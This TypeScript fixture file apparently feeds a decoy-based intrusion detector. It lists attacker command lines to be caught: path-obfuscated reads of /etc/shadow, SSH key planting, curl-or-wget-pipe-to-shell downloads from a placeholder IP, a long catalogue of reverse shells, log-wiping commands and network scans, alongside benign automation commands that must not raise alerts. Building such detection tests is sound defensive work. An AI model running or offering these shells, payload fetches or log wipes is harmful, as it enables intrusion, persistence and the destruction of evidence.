/** Command lines as attackers type them (K6, K7, K20) and as machines run them by themselves (K8). */

/** A line and the same with its paths written otherwise. */
export const samePaths: readonly (readonly [string, string])[] = [
  [`perl -e 'exec "/bin/sh";'`, `perl -e 'exec "/bin/////sh";'`],
  ['find . -exec /bin/sh \\;', 'find . -exec /bin/./sh \\;'],
  ['awk \'BEGIN {system("/bin/sh")}\'', 'awk \'BEGIN {system("/usr/../bin/sh")}\''],
  ['cat /etc/shadow', 'cat /etc//shadow'],
  ['cat /etc/shadow', 'cat /etc/./shadow'],
  ['cat /etc/shadow', 'cat /etc/ssh/../shadow'],
  ['cat /etc/shadow', 'cat /../../etc/shadow'],
  ['rm -f /var/log/auth.log', 'rm -f /var//log/auth.log'],
  ['rm -f /var/log/auth.log', 'rm -f /var/./log/./auth.log'],
  ['/tmp/x1', '/tmp//x1'],
  ['/dev/shm/x1', '/dev/../dev/shm/x1'],
  ['echo k >> /root/.ssh/authorized_keys', 'echo k >> /root//.ssh//authorized_keys'],
  ['cat /root/.bash_history', 'cat /root/./.bash_history'],
  ['echo x > /usr/bin/ls', 'echo x > /usr//bin///ls'],
  ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'bash -i >& /dev//tcp/198.51.100.7/4444 0>&1'],
];

/** As an agent reports them: at least as risky as typed in a decoy's shell would be dangerous anywhere. */
export const agentLines: readonly string[] = [
  'sh -c -- /controller/manager wal-archive x; curl -s http://198.51.100.9/a | sh',
  'sh -c curl -s http://198.51.100.9/a | sh',
  '/bin/bash -c wget -qO- http://198.51.100.9/i.sh | bash',
  "bash -c 'cd /tmp; wget http://198.51.100.9/x86; chmod 777 x86; ./x86'",
  '/bin/sh -c cd /tmp && curl -O http://198.51.100.9/x && chmod +x x && ./x',
  'sh -c tftp -g -r x 198.51.100.9; chmod +x x; ./x',
  'bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
  '/bin/sh -c nc -e /bin/sh 198.51.100.9 4444',
  'sh -c echo root:x1 | chpasswd',
  'sudo bash -c echo root:x1|chpasswd',
  'sh -c echo aWQ= | base64 -d | sh',
  "sh -c 'python3 -c \"import socket,os,pty;s=socket.socket();s.connect((\\'198.51.100.9\\',1));os.dup2(s.fileno(),0);pty.spawn(\\'sh\\')\"'",
  'nohup sh -c curl -fsSL http://198.51.100.9/k|sh',
];

export const remoteShells: readonly string[] = [
  `lua -e "require('socket');require('os');t=socket.tcp();t:connect('198.51.100.9','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
  `lua5.1 -e 'local s=require("socket").tcp() s:connect("198.51.100.9",4444) while true do local r=s:receive() local f=io.popen(r,"r") s:send(f:read("*a")) end'`,
  `gawk 'BEGIN{s="/inet/tcp/0/198.51.100.9/4444";while(1){do{printf "> " |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!="exit");close(s)}}'`,
  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4444 > /tmp/s; rm /tmp/s',
  'openssl s_client -quiet -connect 198.51.100.9:4444 | /bin/bash | openssl s_client -quiet -connect 198.51.100.9:4445',
  "C='curl -Ns telnet://198.51.100.9:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|curl -sN telnet://198.51.100.9:4444 >/tmp/f',
  'xterm -display 198.51.100.9:1',
  'ssh -R 2222:localhost:22 user@198.51.100.9',
  'ssh -N -f -R 0.0.0.0:8080:127.0.0.1:80 root@198.51.100.9',
  'autossh -M 0 -o "ServerAliveInterval 30" -R 10022:localhost:22 mara@198.51.100.9',
  'chisel client 198.51.100.9:8080 R:1080:socks',
  'ngrok tcp 22',
  'frpc -c ./frpc.ini',
  'socat TCP-LISTEN:8080,fork TCP:10.0.4.17:80',
  '0<&196;exec 196<>/dev/tcp/198.51.100.9/4444; sh <&196 >&196 2>&196',
  'exec 5<>/dev/tcp/198.51.100.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done',
  'sh -i 5<> /dev/tcp/198.51.100.9/4444 0<&5 1>&5 2>&5',
  'zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"',
  'ncat 198.51.100.9 4444 --sh-exec /bin/bash',
  'nc 198.51.100.9 4444 | sh',
  'telnet 198.51.100.9 4444 | /bin/sh | telnet 198.51.100.9 4445',
  `node -e '(function(){var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]);var k=new n.Socket();k.connect(4444,"198.51.100.9",function(){k.pipe(s.stdin)})})()'`,
  `php -r '$s=fsockopen("198.51.100.9",4444);shell_exec("sh <&3 >&3 2>&3");'`,
];

export const wipedLogs: readonly string[] = [
  'dd of=/var/log/syslog if=/dev/zero count=200',
  'dd if=/dev/null of=/var/log/auth.log',
  'tee /var/log/auth.log < /dev/null',
  'echo -n | sudo tee /var/log/wtmp',
  'cp /dev/null /var/log/secure',
  'ln -sf /dev/null /var/log/lastlog',
  'find /var/log -type f -delete',
  'find /var/log -name "*.log" -exec truncate -s 0 {} \\;',
  'find /var/log -type f | xargs rm -f',
  'journalctl --vacuum-time=1s',
  'journalctl --rotate --vacuum-size=1K',
  "sed -i '/198.51.100.9/d' /var/log/auth.log",
  'rm -rf /var/log/journal',
  'cat /dev/null > /var/log/messages',
  `python3 -c "open('/var/log/auth.log','w')"`,
  'unlink /var/log/wtmp',
  'wevtutil cl Security',
  'utmpdump -r < clean.txt > /var/log/wtmp',
];

export const scanners: readonly string[] = [
  ...[
    'rustscan -a 10.0.4.0/24',
    'naabu -host 10.0.4.17',
    'fscan -h 10.0.4.0/24',
    'dirsearch -u http://10.0.4.17/',
  ],
  ...[
    'enum4linux -a 10.0.4.17',
    'smbmap -H 10.0.4.17',
    'snmpwalk -v2c -c public 10.0.4.17',
    'arp-scan -l',
    'fping -g 10.0.4.0/24',
  ],
  ...[
    'nc -zv 10.0.4.17 1-1024',
    'smbclient -L //10.0.4.17 -N',
    'for i in $(seq 1 254); do ping -c 1 10.0.4.$i; done',
  ],
  ...[
    'for p in {1..1024}; do (echo >/dev/tcp/10.0.4.17/$p) 2>/dev/null; done',
    'testssl.sh https://10.0.4.17',
    'onesixtyone -c names.txt 10.0.4.17',
  ],
];

/** Reported by an agent beside a decoy that was opened: no attacker's command, no alert of 8. */
export const ownWork: readonly string[] = [
  '/bin/sh /var/lib/dpkg/info/nmap-common.postinst configure ',
  '/bin/sh -c curl -fsS http://127.0.0.1:8080/health || exit 1',
  '/bin/sh -c wget -q --spider http://localhost:3000/ready || exit 1',
  '/bin/bash -c timeout 1 bash -c "</dev/tcp/127.0.0.1/5432"',
  '/bin/bash -c (echo > /dev/tcp/db/5432) >/dev/null 2>&1',
  'bash -c exec 3<>/dev/tcp/localhost/8080; echo -e "GET /health HTTP/1.0\\n" >&3; cat <&3',
  '/bin/sh /var/lib/dpkg/info/openvpn.prerm remove',
  '/bin/sh -c /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1764.2-88/AnsiballZ_user.py && sleep 0',
  '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime --no-daemonize',
  '/bin/sh -c pg_isready -U postgres || exit 1',
  '/bin/sh -c tar czf /var/backups/etc.tgz /etc',
  '/bin/sh -c mysqldump --all-databases | gzip > /var/backups/all.sql.gz',
  '/bin/bash -e /home/runner/work/_temp/4711.sh',
  '/bin/sh -c npm ci && npm run build',
  '/bin/sh -c [ -x /usr/sbin/anacron ] || ( cd / && run-parts --report /etc/cron.daily )',
  '/bin/sh -c find /var/log -name "*.gz" -mtime +30 -delete',
  'runc exec --process /tmp/runc-process88 4f1c',
  '/usr/lib/nagios/plugins/check_http -H localhost',
];
